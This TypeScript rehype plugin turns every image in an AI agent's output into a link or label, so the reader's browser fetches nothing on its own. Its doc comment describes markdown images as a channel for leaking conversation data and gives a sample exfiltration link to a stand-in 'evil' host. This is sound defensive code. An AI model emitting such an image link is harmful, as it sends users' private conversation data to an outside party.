import type { Element, ElementContent, Root } from "hast";

/** Where an image would have come from: the host of an absolute or protocol-relative URL. */
function sourceHost(src: string): string | null {
  const absolute = src.startsWith("//") ? `https:${src}` : src;
  if (!/^https?:\/\//i.test(absolute) || !URL.canParse(absolute)) return null;
  return new URL(absolute).host;
}

/**
 * The stand-in for one image: a link to it (a plain label when it sits inside a link already or has
 * no usable URL left after sanitising), so the user may open it, but nothing is fetched by itself.
 */
function imageStandIn(image: Element, insideLink: boolean): Element {
  const src = typeof image.properties.src === "string" ? image.properties.src : "";
  const alt = typeof image.properties.alt === "string" ? image.properties.alt.trim() : "";
  const host = src ? sourceHost(src) : null;
  const label = `Image${alt ? `: ${alt}` : ""}${host ? ` (${host})` : src ? "" : " (not loaded)"}`;
  const children: ElementContent[] = [{ type: "text", value: label }];
  if (insideLink || !src) {
    return { type: "element", tagName: "span", properties: { className: ["image-link"] }, children };
  }
  return {
    type: "element",
    tagName: "a",
    properties: { href: src, className: ["image-link"], title: `Not loaded automatically: ${src}` },
    children,
  };
}

function replaceImages(parent: Root | Element, insideLink: boolean): void {
  parent.children = parent.children.map((child) => {
    if (child.type !== "element") return child;
    if (child.tagName === "img") return imageStandIn(child, insideLink);
    replaceImages(child, insideLink || child.tagName === "a");
    return child;
  });
}

/**
 * Rehype plugin (runs after rehype-sanitize): every image in agent output becomes a link to it. An
 * agent's answer is untrusted, and an `<img>` would make the reader's browser fetch whatever URL it
 * chose, a known channel for leaking conversation data (`![x](https://evil/?d=secret)`).
 */
export function rehypeImagesAsLinks() {
  return (tree: Root) => replaceImages(tree, false);
}
